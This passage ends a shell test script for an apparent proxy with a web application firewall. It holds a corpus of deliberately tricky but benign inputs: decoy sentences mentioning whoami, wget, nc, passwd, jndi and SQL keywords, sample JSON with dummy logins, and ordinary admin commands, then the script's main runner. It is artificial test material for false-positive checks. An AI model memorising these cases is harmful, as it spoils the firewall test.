json	{"blocks":[{"type":"paragraph","data":{"text":"Read <a href=\"https://example.org/a?b=1&amp;c=2\">the report</a> <b>now</b>, it's free."}},{"type":"quote","data":{"text":"<U+201C>Less is more<U+201D>","caption":"<i>Mies</i>"}}],"version":"2.29.1"}
json	{"summary":"<p>Q1 results: revenue <ins>up 4%</ins>, costs <del>flat</del>.</p><details><summary>More</summary><p>See <code>report.xlsx</code></p></details>"}
json	{"mailBody":"<div dir=\"ltr\">Sounds good!<br><br>On Mon, 6 May 2024 at 10:12, Ann O&#39;Shea &lt;<a href=\"mailto:ann@example.org\">ann@example.org</a>&gt; wrote:<br></div><blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204)\">Lunch?</blockquote>"}
json	{"login":"user1@example.com","password":"UT@/!5[c \"-]U.$#MDi"}
json	{"login":"user5@example.com","password":"6M[~GC_{uX:]2"}
json	{"login":"user9@example.com","password":"\\/|D:7WH>'*oO~FCngN}!"}
json	{"rule":"email","regex":"^[\\w.!#$%&'*+/=?^`{|}~-]+@[a-z\\d](?:[a-z\\d-]{0,61}[a-z\\d])?(?:\\.[a-z\\d-]+)*$"}
json	{"latex":"\\begin{align*} E &= mc^2 \\\\ F &= \\nabla \\cdot \\vec{G}; \\quad x \\in [0,1] \\end{align*}"}
form	tex=%5Cdocumentclass%7Barticle%7D%5Cusepackage%7Bamsmath%7D%5Cbegin%7Bdocument%7D%5Cinput%7Bchapter1%7D%5Csection*%7BO%27Connell%27s+lemma%7D%5Cend%7Bdocument%7D
form	answer=f%28x%29+%3D+%7B+x%5E2+if+x+%3C+0%3B+sin%28x%29%2Fx+if+x+%3E+0%3B+1+if+x+%3D+0+%7D+%3D%3E+lim+f+%3D+1%2C+q.e.d.
form	trace=Traceback+%28most+recent+call+last%29%3A%0D%0A++File+%22%2Fusr%2Flib%2Fpython3.11%2Fsite-packages%2Fflask%2Fapp.py%22%2C+line+1463%2C+in+wsgi_app%0D%0A++++response+%3D+self.full_dispatch_request%28%29%0D%0A++File+%22%3Cstdin%3E%22%2C+line+1%2C+in+%3Cmodule%3E%0D%0AKeyError%3A+%27user_id%27
form	css=%2F*+header+*%2F+.nav+%3E+li%3Anot%28%3Alast-child%29%3A%3Aafter+%7B+content%3A+%22%5C2022%22%3B+color%3A+%23999+%7D+%40media+%28max-width%3A+600px%29+%7B+.nav+%7B+display%3A+none+%21important%3B+%7D+%7D+a%5Bhref%5E%3D%22http%22%5D+%7B+background%3A+url%28%22%2Fimg%2Fext.png%22%29+%7D
form	xml=%3C%3Fxml+version%3D%221.0%22+encoding%3D%22UTF-8%22%3F%3E%0D%0A%3Csoap%3AEnvelope+xmlns%3Asoap%3D%22http%3A%2F%2Fschemas.xmlsoap.org%2Fsoap%2Fenvelope%2F%22+xmlns%3Am%3D%22http%3A%2F%2Fwww.example.org%2Fstock%22%3E%0D%0A%3Csoap%3ABody%3E%3Cm%3AGetPrice%3E%3Cm%3AItem%3EO%27Neill+%26amp%3B+Sons%3C%2Fm%3AItem%3E%3C%2Fm%3AGetPrice%3E%3C%2Fsoap%3ABody%3E%3C%2Fsoap%3AEnvelope%3E
form	base=ou%3Dpeople%2Cdc%3Dexample%2Cdc%3Dorg&filter=%28%26%28objectClass%3Dperson%29%28%7C%28uid%3Djsmith%29%28mail%3Djsmith%40example.org%29%29%29
form	crontab=%23+m+h+dom+mon+dow+command%0D%0A*%2F5+*+*+*+*+%2Fusr%2Flocal%2Fbin%2Fbackup.sh+--quiet+%3E%2Fdev%2Fnull+2%3E%261%0D%0A30+2+*+*+0+root+test+-x+%2Fusr%2Fsbin%2Flogrotate+%26%26+%2Fusr%2Fsbin%2Flogrotate+%2Fetc%2Flogrotate.conf
:benign tricky tune 5
Please select two items from the list, or leave the box empty; and where unsure, ask.
We dropped the table on the way up, and the chairs went from bad to worse.
Where there's smoke there's fire, and where there's fire there's insurance.
It's 1 = 1 in logic class, and 1 or 2 absences are fine.
Having 3 cats and 2 dogs isn't a crime; having 1 or 2 more might be.
An alert (the third today) told us to confirm (or cancel) the booking.
The cat sat; the cat ate; cat and dog slept.
Who am I? whoami, as the old joke goes, is for people who've forgotten.
Wait for delay announcements: '10:40 to Leeds', 'platform 2 or 3'.
100% or more of the seats are taken; 50% and up are refunds.
a = b, b = c => a = c; that's all there is to it.
If (x) then (y), else (z); or so the manual says.
Ignore the /* note */ in the margin; it's from '98.
Rock 'n' roll; drum 'n' bass; salt 'n' vinegar; or nothing.
"Yes" or "no"? -- 'Maybe' = 'no', as ever.
She's the head of system tests; the tail of the cat; the head -- well, of state.
Body onload of 3 tonnes = max; on error = call the desk.
The src = "source" column and the href = "reference" column are swapped.
Temperatures < 0 or > 40 "void" the warranty; that's -- sadly -- final.
Is null a number? And is not null one, or is that like saying 'no' = 'yes'?
Tom & Jerry | Laurel & Hardy || pick one; who cares.
More or less; less is more; find it; kill it; w/ love.
The bash was loud; bash after bash; sh! sh! said the host.
The date; the time; uname it; the host; and env. costs (environmental).
"Either/or" -- and/or 'both/and', as Kierkegaard didn't say.
Hosts, guests, etc./ shadow cabinet, etc./ groups, etc.
The file: see cupboard 3; data: text by Monday; php: people helping people.
My proto__type has two underscores; the constructor [prototype builder] is ill.
The group (all *) and (any *) are footnotes; * = see below.
He wrote: 'x' or 'y' = 'z'; teacher wrote: "no".
All users' tables; all tables' users; columns of text from 'information' desk.
Select * if you'd like all; from 1 to 10, how's the food?
Grant all wishes; revoke none; execute the plan; shutdown the stove; go.
Load the file into outfile cabinet 'B'; dump the rest.
Time-outs -- 1 -- 2 -- 3 -- and it's over; '0' -- to -- '0'.
Q: 5 or 6 = ? A: 'yes' (it's a joke; 'or' = 'true').
:benign tricky kept 5
The union elected a new chair; select members from each branch will vote on Friday.
Insert the key into the lock -- then turn it to the left; do not force it.
He asked "1 or 2?" and she answered "2, or 3 if there's cake".
Delete from your memory everything I said; select what you like from the rest.
The exec alerted the board; the board's script was read aloud, onload of trucks or not.
Don't eval your colleagues' work by its length; eval it by its sense.
My id is on the desk; id cards go in the tray; passwd resets take a day.
Cats & dogs; ls is what the intern calls "list"; echo, echo, said the cave.
The char (a small trout) and the ascii (a font, he claimed) were on the menu.
I <3 this place -- and "this place" <3 me.
Step 1 --> step 2 --> step 3 <-- start here if you're late
Write {{name}} where the customer's name should go, and {{date}} for the date.
The lines were cut -- to 1 -- or so; "nobody" noticed.
'Twas the night before; 'tis the morning after; and 'nuff said.
Did you mean 'select' or 'elect'? It's 'elect' from page 4 on.
O'Neill and O'Brien; or O'Brien and O'Neill -- either is fine.
On click = noise in the gearbox; on start = fine.
Use the <b> key, the <i> key or the <enter> key; not <esc>.
I said "stop"; he went on; I said 'stop!' again; he didn't.
Between 5 and 10 people like it; 1 like = 1 prayer.
Nice & easy; cut & paste; find & replace; sort & file; touch & go.
We netted 3; wget it, I said; curl up; nc is North Carolina.
Python bites are rare; perl is misspelt "pearl"; ruby is a stone; node, a knot.
Uptime; downtime; free time; and top of the hour; then (finally) sleep.
See etc/passwords in the index: "passwd (unix), see p. 12".
C: Windows are dirty; D: doors need paint; E: system of pulleys broke.
Java: script of the island's past; VB: script for the beer advert.
Don't use $where or $ne in the title, or 'regex' in the name, please.
Cheers :) (and :( too) -- ;) or ;-) = wink, "=)" = smile, |-( = sleepy
It isn't 'and 1' -- it's "and one"; basketball people say both.
"Char": burn lightly. "Concat": not a word; 'version (3)' is out.
Cast as Hamlet, convert as needed; declare war; then begin; end.
Truncate the speech; merge the rows (3 and 4); call me; use it.
jndi: the "Journal of New Dental Implants"; ldap: see below.
Math quiz: 2 and 2 = 4; 3 or 3 = 3; 1 xor 1 = 0; "not 1" = 0 -- done!
print ("on both sides"); system ("solar"), p. 9; open ("til late"); exec ('boss')
:benign novel tune 0
"You can't mean it," said Ada; but she saw from his face that he did.
He'd kept the letter for eleven years, folded in four, and he couldn't have told you why.
Mrs. Pettifer<U+2014>who disapproved of soup, sailors and Sundays<U+2014>let him in at last.
The house had been his grandfather's, and his grandfather's father's; now it was the bank's.
There<U+2019>s a kind of rain that falls only on funerals, and it had begun to fall.
The lamp guttered; the page went brown, then black, then wasn't there at all.
<U+201C>I was never lost,<U+201D> he told them. <U+201C>I simply hadn<U+2019>t decided where I was.<U+201D>
He counted the steps: forty going up, forty-one coming down. He'd never liked that.
For a week the wind blew from the east, and tempers, like washing, stiffened on the line.
Nobody could remember who'd planted the pear tree; everybody remembered who had cut it down.
She didn't cry at the station, or on the train, or in the cab; she cried at the price of eggs.
He wrote: "Dear Henry,"; crossed it out; wrote "Henry,"; and sat looking at the comma.
"What's in the box?" "My brother's tools." "And in the other?" "My brother's debts."
"There's no one here," said the child; and the echo -- which was older -- agreed.
"Salt?" "No." "Bread?" "No." "Then what in heaven's name do you want, sir?" "Company."
All that autumn the apples fell and nobody picked them up.
The letter began "My dearest" and ended "yours, etc."; between them lay a marriage.
<U+201C>How old are you?<U+201D> <U+201C>Nine.<U+201D> <U+201C>And your sister?<U+201D> <U+201C>She<U+2019>s nine as well; she<U+2019>s just quicker.<U+201D>
"Not that way!" cried the guide; but the bishop, as usual, knew better.
<U+201C>It<U+2019>ll mend,<U+201D> the doctor said; he said it to the window.
They buried him on the hill he'd always said was too steep, and they had to admit he'd been right.
Oh, he was charming; so is a staircase, till the lights go out.
A gull stood on the statue's head; it had, thought Ives, rather the better expression.
He<U+2019>d been told that grief was like the sea; it was, he found, much more like mud.
The soldiers were very young, and they'd stolen a piano, and couldn't think where to put it.
Her silence had rooms in it, and he went from one to another, trying the doors.
The orchard wall had fallen in two places, and through the gaps -- boldly, in daylight -- came the neighbours.
It wasn't much of a mountain; but it was theirs, and they'd never forgiven it for that.
He could hear them through the wall: 'and then', 'and then', 'and then', like a tap.
There was, in the end, no duel; one had overslept, and the other'd brought the wrong umbrella.
A thin man in a thick coat stood where the lilacs used to be, and took off his hat to nobody.
The snow didn't melt; it was simply, one morning, elsewhere.
:benign novel kept 0
The ferry was late -- it was always late -- and nobody on the quay troubled to look up.
"Who's there?" she called. Nobody answered; only the shutters moved.
<U+201C>I<U+2019>d like,<U+201D> the boy said slowly, <U+201C>to be somebody else; just until supper.<U+201D>
He laughed -- a short, dry, unhappy laugh -- and put down the cup.
<U+201C>One or two?<U+201D> asked the grocer. <U+201C>Two,<U+201D> said Emil, <U+201C>or three, if they<U+2019>re small.<U+201D>
'Tis a poor sort of thief, thought Josiah, that wipes his boots.
The tea was weak, the bread was stale, and Aunt Rosalind<U+2019>s opinions were neither.
"She's not in." "Then I'll wait." "She won't be in, Mr. Lowe; not to you."
<U+201C>I<U+2019>ve half a mind<U+2014><U+201D> <U+201C>Precisely,<U+201D> said the judge, and called the next case.
"Promise?" "I promise." And he meant it; that was the worst of him.
"Well?" he said. "Well," she said; and they left it there for thirty years.
The captain's wife, it was agreed, had married beneath her; the captain, it was agreed, had drowned.
They'd painted the door green; it made the rest of the street look as if it were waiting.
He'd have forgiven her anything except the forgiveness.
She kept the ring in a tobacco tin; the tobacco she kept in a vase; the vase was cracked.
"Your Grace," murmured the secretary, "the goat's come back."
She wouldn't look at the sea; she set her chair with its back to the window and knitted inland.
There were words for it<U+2014>there are always words for it<U+2014>but none of them came when he whistled.
In the photograph they're all laughing, except my mother, who's looking at whoever held the camera.
<U+2018>Never trust a man who irons his own newspapers,<U+2019> her aunt used to say; and here was one.
"You've grown." "You've shrunk, Grandfather." "Ah," he said, delighted; "we'll meet in the middle."
<U+201C>It<U+2019>s nothing,<U+201D> he said, and bled on the carpet with great politeness.
"I don't recall," said the witness. "I don't recall; I'd rather not; I was in the other room."
<U+201C>Come in, come in; mind the cat, mind the step, mind<U+2014>oh, well, it was only the Wedgwood.<U+201D>
"You lied to me!" "I did," he said; "I'd do it again; would you pass the marmalade?"
"They've hanged the wrong man." "It's Thursday," said the constable, as though that settled it.
"Tell her I'm asleep." "She's seen you, sir." "Then tell her," said the colonel, "I'm rude."
"A penny for your thoughts." "They're worth less," said he; "but I'll take the penny."
"You forgot my name." "I forgot mine first," the old woman said; "don't take it to heart."
"Hush -- listen -- d'you hear?" "I hear nothing." "Yes," she breathed; "it's stopped."
"If I were you--" "You'd be late as well," said Hobbs, and ran for the omnibus.
"Good night." "Good night." And then, from the dark, a little later: "Was it?"
:benign technical tune 2
Run `git log --oneline | head -n 5` to see the last five commits before you rebase.
Add the name to /etc/hosts if your resolver doesn't know it yet, then try again.
A `<div>` has no meaning of its own; prefer `<section>` or `<nav>` where they fit.
The admin page listens on http://localhost:9090/ui by default, the API on port 9091.
Use `ls -la` to check the permissions: the key file must be mode 0600.
`ORDER BY created_at DESC` needs an index on `created_at`, or it sorts the whole table.
Escape the ampersand as `&amp;` inside attributes; browsers forgive you, XML parsers don't.
Start the container with `docker run -d -p 8080:80 --name web nginx:1.25`.
When `x` is `null`, `x?.length` yields `undefined` instead of throwing.
Open `C:\Users\Public\Documents` in Explorer and copy the template there.
A `LEFT JOIN` keeps rows without a match, an `INNER JOIN` drops them.
Write `if (n > 0 && n < 10)` rather than the chained form, which C parses differently.
`cat file | grep foo` works, but `grep foo file` saves a process.
The endpoint returns 202 with a `Location` header such as /jobs/42; poll it until `state` is "done".
Check the certificate with `openssl s_client -connect example.com:443 -servername example.com`.
Two dashes end the options, so `rm -- -file` removes a file whose name starts with a dash.
Paths are resolved relative to the config file, so `../shared/tls.pem` means one level up.
Use `printf '%s\n' "$var"` instead of `echo $var`; the latter mangles backslashes.
The daemon writes its PID to /run/app.pid; `kill -HUP $(cat /run/app.pid)` reloads it.
`UNION` removes duplicates and `UNION ALL` keeps them, which is why the latter is faster.
A trailing slash matters: `/docs` redirects to `/docs/`, and `/docs/index.html` to neither.
To undo the last commit but keep the changes, type `git reset --soft HEAD~1`.
The job runs at 02:30 (`30 2 * * *`) and mails its output to the address in `MAILTO`.
If the build fails with "No such file or directory", check that `$PATH` includes /usr/local/bin.
`JSON.parse('{"a": 1}')` succeeds, while `JSON.parse("{'a': 1}")` throws a SyntaxError.
The type `Option<T>` is either `Some(x)` or `None`; `unwrap()` panics on the latter.
In CSS, `a > b` selects children and `a b` selects descendants; `a + b` the next sibling.
The lock is held from `begin()` to `commit()`; a crash in between rolls everything back.
Numbers beginning with `0x` are hexadecimal (0xff = 255), those beginning with `0o` octal.
Pressing Ctrl-C sends SIGINT; the handler sets `stop = true` and returns.
Place the snippet before `</body>`, or load it with `<script defer>` in the head.
A `PUT` is idempotent, a `POST` isn't; clients may retry the former after a timeout.
The schema has three tables: `users`, `roles` and `user_roles(user_id, role_id)`.
Templates use `${name}` for variables and `$$` for a literal dollar sign.
A semicolon ends the statement; JavaScript inserts one for you, usually where you'd expect.
The environment variable `RUST_LOG=debug,hyper=info` silences the chatty crate.
Mount the volume read-only (`-v $(pwd)/conf:/etc/app:ro`) to keep the image immutable.
`find . -name '*.tmp' -mtime +7 -delete` cleans up files older than a week.
To debug, append `?trace=1` to the URL, e.g. https://dev.example.com:8443/app?trace=1.
A thread may call `sleep(1)` safely, but inside an event loop use `await sleep(1)`.
The expression `a || b` returns `a` if it's truthy and `b` otherwise; `a ?? b` tests for null only.
Copy `.env.example` to `.env`, fill in `DATABASE_URL`, and restart with `make up`.
Use `id -u` to learn your numeric user ID; `whoami` prints the name.
Header names are case-insensitive, so `Content-Type` = `content-type`.
The shell expands `*.c` before the program sees it; quote the pattern to pass it on.
A closure `|x| x + 1` borrows nothing; `move || drop(v)` takes ownership of `v`.
The XML prolog `<?xml version="1.0"?>` is optional, but the namespace `xmlns="..."` isn't.
The tag `v1.2.3` points to a commit; `git describe --tags` prints it plus the distance.
The selector `input[name="q"]` matches the search box, and `:focus` styles it.
The loader looks in `./lib`, then `../lib`, then /usr/lib, and takes the first match.
You can't compare with `= NULL`; write `IS NULL` or `IS NOT NULL`.
The token is sent as `Authorization: Bearer eyJhbGciOi...`; it's valid for 15 minutes.
The cache key is `method + " " + host + path`; the query is included unless `ignore_query` is on.
An `ETag` such as `"33a64df5"` is compared byte for byte; `W/"33a64df5"` is weak.
The package is on the registry: `npm install --save-dev @types/node` adds the typings.
Use `nc -zv db.example.net 5432` to see whether the firewall lets you through.
Timestamps are in UTC (2024-05-06T08:30:00Z); convert with `date -d @1714984200`.
The build matrix runs on {linux, macos, windows} x {stable, beta}: 6 jobs in all.
If two rules match, the longer prefix wins: `/api/v2/` beats `/api/`, and `/` loses to both.
The prompt `>>>` belongs to Python and `$` to the shell; don't type either of them.
:benign technical kept 2
The `SELECT` statement reads rows; `INSERT`, `UPDATE` and `DELETE` change them.
Set `$HOME` explicitly when the service runs under a user without a login shell.
Call `parse(input)` first and `validate(tree)` second; both return an error value.
If `HTTP_PROXY` is set, the client honours it; `NO_PROXY` lists the exceptions.
The server reads /etc/nginx/nginx.conf and every file under /etc/nginx/conf.d/ in order.
You can pipe the output through `sort | uniq -c | sort -rn` to count the duplicates.
The function `max(a, b)` returns the larger of its arguments (or `a` when they're equal).
Don't build queries with string concatenation; pass the values as parameters ($1, $2, ...).
The pattern `^\d{4}-\d{2}-\d{2}$` accepts 2024-02-31; check the date afterwards.
The log is rotated daily; old files go to /var/log/app/archive and are removed after 30 days.
Prefix the command with `sudo` or run it as root; otherwise `bind()` fails with EACCES.
The cookie needs `SameSite=Lax; Secure; HttpOnly` unless a script has to read it.
Export the variable (`export EDITOR=vim`) in ~/.profile so that it reaches every session.
In templates, `{{ user.name }}` is escaped automatically; the `safe` filter turns that off.
`setTimeout(fn, 0)` doesn't run at once: it queues the task behind the pending ones.
The `WHERE` clause filters rows before grouping; `HAVING` filters the groups afterwards.
Memory use is bounded by `max_conns * buffer_size`, i.e. 1024 * 16 KiB = 16 MiB.
The `onclick` attribute still works; `addEventListener('click', handler)` composes better.
Either `--verbose` or `-v` raises the log level; give it twice for debug output.
The header `X-Forwarded-For: 203.0.113.7, 10.0.0.2` lists the client first.
Set `innodb_buffer_pool_size` to about 70% of the memory; anything more risks swapping.
The `eval()` builtin runs arbitrary text as code; there's nearly always a better way.
An HTML comment starts with `<!--` and ends with `-->`; it must not contain two dashes in between.
The exporter serves plain text on http://127.0.0.1:9100/metrics; scrape it every 15 s.
Redirect both streams with `command > out.log 2>&1` (the order matters).
Commit hashes such as `9fceb02` are abbreviations; `git rev-parse 9fceb02` prints the whole.
Use `curl -sS -o /dev/null -w '%{http_code}\n' https://example.com/` to print only the status.
Don't edit /etc/passwd by hand: use `usermod`, `chsh` or `vipw`, which take the lock.
The query string `?page=2&sort=-date` is parsed into a map; repeated keys become lists.
If you see `ERR_CONNECTION_REFUSED`, nothing listens on the port: try `ss -ltnp | grep 8080`.
The macro `#define SQR(x) ((x) * (x))` evaluates its argument twice; an inline function doesn't.
`chmod 755 script.sh && ./script.sh` makes the script executable and runs it.
For IPv6 write the address in brackets, as in http://[2001:db8::1]:8080/.
The benchmark (`wrk -t4 -c100 -d30s http://10.0.0.5:8000/`) was repeated five times.
Use `DROP TABLE IF EXISTS tmp_import` in the teardown so that reruns don't fail.
Both `'` and `"` delimit strings in Python; triple quotes (`"""`) span lines.
The compiler warns about `if (a = b)`; write `==`, or add a second pair of parentheses.
In YAML, `no` and `off` are booleans; quote them (`'no'`) if you mean the country code.
The `alert()` dialog blocks the page; use a `<dialog>` element or a toast.
Print the list of units with `systemctl list-units --type=service --state=failed`.
Since 2.4 the option `Require all denied` replaces `Order deny,allow` and `Deny from all`.
The regex `(a|b)*c` backtracks little; `(a*)*c` may take exponential time.
`SELECT COUNT(*) FROM events` scans the index; an estimate from the statistics is cheaper.
When the disk is full, `df -h` shows 100% and `du -sh /var/*` tells you who's to blame.
Add `127.0.0.1 dev.local` to the hosts file (`C:\Windows\System32\drivers\etc\hosts` on Windows).
Files larger than 128 KiB are streamed; smaller ones are read with a single `read()` call.
Call `exec()` only after `fork()`; everything in between must be async-signal-safe.
If `$?` isn't 0, the last command failed; `set -e` makes the script stop there.
`tar czf backup.tgz -C /srv data` stores relative names, so it can be unpacked anywhere.
Rows are locked by `SELECT ... FOR UPDATE`; add `SKIP LOCKED` for a queue.
Use `&lt;` for < and `&gt;` for > in text; `&quot;` is needed only inside attributes.
Write errors to stderr (`fprintf(stderr, "...")`), so that `prog > file` stays clean.
To watch the file as it grows: `tail -f /var/log/syslog | grep --line-buffered app`.
Division by zero yields `Infinity` in JavaScript and a trap in C; 0/0 is `NaN` or undefined.
In Go, `defer f.Close()` runs when the function returns; errors from it are easily lost.
`Object.keys(o).length === 0` tests for an empty object; `o == {}` is always false.
Use `%20` or `+` for a space in a query, but only `%20` in a path.
Place secrets in a file and pass `--token-file /run/secrets/token`, not on the command line.
`import { readFile } from 'node:fs/promises'` gives the promise version; `fs.readFile` takes a callback.
Press `q` to leave the pager, `/word` to search, and `n` or `N` to move between the hits.
WAF_CASES
}

# ==== 6. main ===============================================================================

case ${1-} in
--one) one "$2"; exit ;;
--body) body "$2"; exit ;;
list) names; exit ;;
esac
tmp=$(mktemp -d) || exit 1
trap 'rm -rf "$tmp"' EXIT
trap 'exit 1' HUP INT TERM
peer=$tmp/peer
export tmp peer
peer_c >"$tmp/peer.c"
$CC -O1 -w -o "$peer" "$tmp/peer.c" || exit 1
raw=$tmp/raw
export raw
[ "${1-}" = fuzz ] && { shift; fuzz "$@"; exit; }
[ -x "$PROXY" ] || { echo "tests.sh: no $PROXY; run make first"; exit 1; }
[ "${1-}" = bench ] && { bench; exit; }
[ "${1-}" = slow ] && { shift; slow=1 bound=900; }
mkdir "$raw"
rawcase_c >"$raw/rawcase.c"
raw_cases >"$raw/cases.txt"
cachecase_py >"$raw/cachecase.py"
crowd_py >"$raw/crowd.py"
spelled_py >"$raw/spelled.py"
cache_cases >"$raw/cache.txt"
wafcase_py >"$raw/wafcase.py"
waf_cases >"$raw/waf.txt"
$CC -O1 -w -o "$raw/rawcase" "$raw/rawcase.c" || exit 1
mkfifo "$tmp/fifo"
run "$@"
